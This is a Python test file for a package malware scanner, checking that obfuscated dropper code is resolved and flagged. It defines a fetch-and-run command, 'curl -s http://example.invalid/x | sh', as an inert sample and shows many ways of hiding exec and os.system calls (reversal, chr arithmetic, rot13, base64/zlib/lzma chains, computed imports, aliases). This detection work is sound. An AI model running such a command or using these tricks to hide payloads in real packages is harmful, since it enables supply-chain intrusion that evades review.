"""What attackers do to hide, and the scanner seeing through it: string building folded to its
value (reversal and slicing, chr() arithmetic, bytes.fromhex, rot13), decode chains decoded
statically (base64, zlib, lzma; marshal recognised, never loaded), and names resolved through
computed lookups and aliases (``__import__('o' + 's')``, ``getattr(__builtins__, 'ex' +
'ec')``, ``e = exec``, ``from os import system as s``).

Each case is a sample that fires only because the hidden value was resolved, and a clean twin
built the same way around a harmless value. The samples sit in ``demo/__init__.py``, which is
always parsed (a module deep in a package is parsed only when it holds a strong trigger, see
docs/scanning.md), so what is tested is the folding, not the text fast path.

Every "payload" is an inert string written here: nothing is ever run, and the scanner only
reads it.
"""

from __future__ import annotations

import base64
import codecs
import lzma
import zlib

import pytest

from bastion.core.scanning import scan

from .support import rules_of, sdist

MODULE = "demo/__init__.py"
# The command a dropper hides (example.invalid never resolves), and a harmless one.
HIDDEN = "curl -s http://example.invalid/x | sh"
HARMLESS = "curl --version"
INNER_HIDDEN = f"import os\nos.system({HIDDEN!r})\n".encode()
INNER_HARMLESS = f"import os\nos.system({HARMLESS!r})\n".encode()


def _scan(tmp_path, source: str):
    result = scan(sdist(tmp_path, {MODULE: source}))
    assert result.verdict != "error", result.reason
    return result


def _details(result, rule: str) -> list[str]:
    return [f.detail for f in result.findings if f.rule == rule]


def _reversed(text: str) -> str:
    return f"{text[::-1]!r}[::-1]"


def _every_other(text: str) -> str:
    return repr("".join(c + "q" for c in text)) + "[::2]"


def _bounded(text: str) -> str:
    broken = repr(text[:2] + "zzz" + text[2:])
    return f"{broken}[:2] + {broken}[5:]"


def _chr_arithmetic(text: str) -> str:
    return " + ".join(f"chr({ord(c) - 7} + 7)" for c in text)


def _chr_comprehension(text: str) -> str:
    return "''.join(chr(c - 3) for c in [" + ", ".join(str(ord(c) + 3) for c in text) + "])"


def _map_chr(text: str) -> str:
    return "''.join(map(chr, [" + ", ".join(str(ord(c)) for c in text) + "]))"


def _fromhex(text: str) -> str:
    return f"bytes.fromhex({text.encode().hex()!r}).decode()"


def _rot13(text: str) -> str:
    return f"codecs.decode({codecs.encode(text, 'rot13')!r}, 'rot13')"


FOLDS = {"reversal": _reversed, "step slicing": _every_other, "slicing": _bounded,
         "chr arithmetic": _chr_arithmetic, "chr comprehension": _chr_comprehension,
         "map chr": _map_chr, "bytes.fromhex": _fromhex, "rot13": _rot13}


@pytest.mark.parametrize("fold", sorted(FOLDS))
def test_a_command_built_to_hide_it_is_folded_to_its_value(tmp_path, fold):
    build = FOLDS[fold]
    # The literal as written holds no trace of the command: only its value does.
    assert "curl" not in build(HIDDEN)
    (tmp_path / "fire").mkdir()
    (tmp_path / "clean").mkdir()
    head = "import codecs, os\ndef go():\n    os.system("
    hit = _scan(tmp_path / "fire", head + build(HIDDEN) + ")\n")
    twin = _scan(tmp_path / "clean", head + build(HARMLESS) + ")\n")
    assert _details(hit, "proc-shell-download") == [HIDDEN], hit.findings
    assert "proc-shell-download" not in rules_of(twin), twin.findings


def _chain(*steps: str):
    """An encoder for ``steps`` (innermost first) and the calls that undo it."""
    encoders = {"base64": base64.b64encode, "zlib": zlib.compress, "lzma": lzma.compress}
    decoders = {"base64": "base64.b64decode", "zlib": "zlib.decompress",
                "lzma": "lzma.decompress"}

    def encode(data: bytes) -> str:
        for step in steps:
            data = encoders[step](data)
        return data.decode("ascii")

    def decode(literal: str) -> str:
        expression = repr(literal)
        for step in reversed(steps):
            expression = f"{decoders[step]}({expression})"
        return expression

    return encode, decode


CHAINS = {"base64 of lzma": ("lzma", "base64"),
          "base64 of zlib of lzma": ("lzma", "zlib", "base64"),
          "base64 of lzma of zlib": ("zlib", "lzma", "base64")}


@pytest.mark.parametrize("chain", sorted(CHAINS))
def test_a_decode_chain_is_decoded_and_its_payload_scanned_again(tmp_path, chain):
    encode, decode = _chain(*CHAINS[chain])
    head = "import base64, lzma, zlib\ndef go():\n    exec("
    (tmp_path / "fire").mkdir()
    (tmp_path / "clean").mkdir()
    hit = _scan(tmp_path / "fire", head + decode(encode(INNER_HIDDEN)) + ")\n")
    twin = _scan(tmp_path / "clean", head + decode(encode(INNER_HARMLESS)) + ")\n")
    # Both run decoded data; only the hidden payload downloads and runs.
    assert "exec-decoded" in rules_of(hit) and "exec-decoded" in rules_of(twin)
    assert _details(hit, "proc-shell-download") == [HIDDEN], hit.findings
    assert "proc-shell-download" not in rules_of(twin), twin.findings


# Stands for marshalled code; never a real code object, and the scanner never loads it.
NOT_CODE = b"\xe3" + b"placeholder bytes, not a code object" * 4


def test_marshalled_code_at_the_end_of_a_decode_chain_is_recognised(tmp_path):
    blob = base64.b64encode(zlib.compress(NOT_CODE)).decode()
    (tmp_path / "fire").mkdir()
    (tmp_path / "clean").mkdir()
    chain = f"zlib.decompress(base64.b64decode({blob!r}))"
    hit = _scan(tmp_path / "fire", "import base64, marshal, zlib\ndef go():\n"
                                   f"    exec(marshal.loads({chain}))\n")
    twin = _scan(tmp_path / "clean", "import base64, json, zlib\ndef go():\n"
                                     f"    return json.loads({chain})\n")
    assert "exec-marshal" in rules_of(hit), hit.findings
    assert "exec-marshal" not in rules_of(twin), twin.findings


def test_a_module_imported_by_a_computed_name_is_resolved(tmp_path):
    (tmp_path / "fire").mkdir()
    (tmp_path / "clean").mkdir()
    (tmp_path / "plain").mkdir()
    hit = _scan(tmp_path / "fire", "def go(cmd):\n    __import__('o' + 's').system(cmd)\n")
    twin = _scan(tmp_path / "clean",
                 "def go(cmd):\n    __import__('o' + 's').path.join(cmd, 'x')\n")
    plain = _scan(tmp_path / "plain", "def go(cmd):\n    __import__('os').system(cmd)\n")
    assert {"obf-builtin-lookup", "proc-exec"} <= rules_of(hit), hit.findings
    assert _details(hit, "proc-exec") == ["os.system()"]
    # Reported where the lookup is, not on the module's first line.
    assert [f.line for f in hit.findings if f.rule == "obf-builtin-lookup"] == [2]
    assert "proc-exec" not in rules_of(twin), twin.findings
    # A name written out is no computed lookup, but is resolved the same.
    assert "obf-builtin-lookup" not in rules_of(plain) and "proc-exec" in rules_of(plain)


def test_a_name_also_bound_by_unpacking_is_not_taken_for_a_constant(tmp_path):
    # A loader of names from data (PyYAML's constructor): one branch gives the module name a
    # constant, the other unpacks it from its input, so what sys.modules is asked for is not
    # known. The same lookup of a name only ever bound to the constant is still resolved.
    lookup = ("import sys\ndef find(name):\n"
              "    if '.' in name:\n        module_name, object_name = name.rsplit('.', 1)\n"
              "    else:\n        module_name = 'builtins'\n        object_name = name\n"
              "    module = sys.modules[module_name]\n    return getattr(module, object_name)\n")
    constant = ("import sys\ndef find(name):\n    module_name = 'built' + 'ins'\n"
                "    module = sys.modules[module_name]\n    return getattr(module, name)\n")
    (tmp_path / "clean").mkdir()
    (tmp_path / "fire").mkdir()
    twin = _scan(tmp_path / "clean", lookup)
    hit = _scan(tmp_path / "fire", constant)
    assert "obf-builtin-lookup" not in rules_of(twin), twin.findings
    assert twin.verdict == "clean"
    assert "obf-builtin-lookup" in rules_of(hit), hit.findings


@pytest.mark.parametrize("builtins", ["__builtins__", "builtins"])
def test_a_builtin_fetched_by_a_computed_name_is_resolved(tmp_path, builtins):
    blob = base64.b64encode(INNER_HIDDEN).decode()
    head = f"import base64, builtins\ndef go():\n    getattr({builtins}, "
    (tmp_path / "fire").mkdir()
    (tmp_path / "clean").mkdir()
    hit = _scan(tmp_path / "fire", head + f"'ex' + 'ec')(base64.b64decode({blob!r}))\n")
    twin = _scan(tmp_path / "clean", head + f"'pr' + 'int')(base64.b64decode({blob!r}))\n")
    assert {"obf-builtin-lookup", "exec-decoded"} <= rules_of(hit), hit.findings
    assert _details(hit, "proc-shell-download") == [HIDDEN]
    assert not {"exec-decoded", "proc-shell-download"} & rules_of(twin), twin.findings


B64_HIDDEN = base64.b64encode(INNER_HIDDEN).decode()
# name -> (sample, clean twin): the call reaches exec or os.system only through the alias.
ALIASES = {
    "a builtin bound to a name": (
        f"import base64 as b\ne = exec\ndef go():\n    e(b.b64decode({B64_HIDDEN!r}))\n",
        f"import base64 as b\ne = print\ndef go():\n    e(b.b64decode({B64_HIDDEN!r}))\n"),
    "a builtin bound inside the function": (
        f"import base64 as b\ndef go():\n    e = exec\n    e(b.b64decode({B64_HIDDEN!r}))\n",
        f"import base64 as b\ndef go():\n    e = print\n    e(b.b64decode({B64_HIDDEN!r}))\n"),
    "a decoder imported under another name": (
        f"from base64 import b64decode as d\ndef go():\n    exec(d({B64_HIDDEN!r}))\n",
        f"from base64 import b64encode as d\ndef go():\n    exec(d({B64_HIDDEN!r}))\n"),
    "a function imported under another name": (
        "from os import system as s\ndef go(cmd):\n    s(cmd)\n",
        "from os.path import join as s\ndef go(cmd):\n    s(cmd, 'x')\n"),
    "a module imported under another name": (
        "import os as o\ndef go(cmd):\n    o.system(cmd)\n",
        "import os as o\ndef go(cmd):\n    o.getcwd()\n"),
    "a module bound to a name": (
        "import os\nm = os\ndef go(cmd):\n    m.system(cmd)\n",
        "import os\nm = os\ndef go(cmd):\n    m.getcwd()\n"),
    "a method bound to a name": (
        "import os\nrun = os.system\ndef go(cmd):\n    run(cmd)\n",
        "import os\nrun = os.path.join\ndef go(cmd):\n    run(cmd, 'x')\n"),
    "an attribute fetched by a computed name": (
        "import os\ndef go(cmd):\n    getattr(os, 'sys' + 'tem')(cmd)\n",
        "import os\ndef go(cmd):\n    getattr(os, 'get' + 'cwd')()\n"),
    "a module from sys.modules by a computed name": (
        "import sys\ndef go(cmd):\n    sys.modules['o' + 's'].system(cmd)\n",
        "import sys\ndef go(cmd):\n    sys.modules['o' + 's'].getcwd()\n"),
}


@pytest.mark.parametrize("alias", sorted(ALIASES))
def test_a_call_through_an_alias_is_resolved(tmp_path, alias):
    sample, clean = ALIASES[alias]
    (tmp_path / "fire").mkdir()
    (tmp_path / "clean").mkdir()
    hit = _scan(tmp_path / "fire", sample)
    twin = _scan(tmp_path / "clean", clean)
    fired = {"exec-decoded", "proc-exec"} & rules_of(hit)
    assert fired, hit.findings
    assert not fired & rules_of(twin), twin.findings


DEEP = "demo/lib/util.py"


@pytest.mark.parametrize("head, call", [
    ("import os as o", "o.system(cmd)"),
    ("import subprocess as sp", "sp.call(cmd, shell=True)"),
    ("from os import system as s", "s(cmd)"),
    ("from subprocess import run", "run(cmd, shell=True)"),
])
def test_a_call_behind_an_import_alias_deep_in_a_package_is_found(tmp_path, head, call):
    # A module deep in a package is parsed only on a strong trigger: the aliased import is one.
    (tmp_path / "fire").mkdir()
    (tmp_path / "clean").mkdir()
    hit = scan(sdist(tmp_path / "fire", {DEEP: f"{head}\ndef go(cmd):\n    {call}\n"}))
    twin = scan(sdist(tmp_path / "clean", {DEEP: "import os\ndef go(p):\n    return os.path.join(p, 'x')\n"}))
    assert "proc-exec" in rules_of(hit), hit.findings
    assert "proc-exec" not in rules_of(twin), twin.findings


def test_a_call_handed_out_by_a_helper_function_is_resolved(tmp_path):
    # def get(): from subprocess import check_output as c; return c -- then get()(cmd), or
    # run = get(); run(cmd): the helper stands for the function it returns.
    helpers = ("def get_runner():\n    from subprocess import check_output as runner\n    return runner\n"
               "def get_base():\n    from os.path import basename as base\n    return base\n")
    (tmp_path / "fire").mkdir()
    (tmp_path / "clean").mkdir()
    hit = scan(sdist(tmp_path / "fire", {"demo/__init__.py": helpers
                                         + "def go():\n    run = get_runner()\n    run(['placeholder-program'])\n"
                                         + "def again():\n    get_runner()(['placeholder-program'])\n"}))
    twin = scan(sdist(tmp_path / "clean", {"demo/__init__.py": helpers
                                           + "def go():\n    get_base()('placeholder/path')\n"}))
    assert [f.line for f in hit.findings if f.rule == "proc-exec"] == [9, 11], hit.findings
    assert "proc-exec" not in rules_of(twin), twin.findings
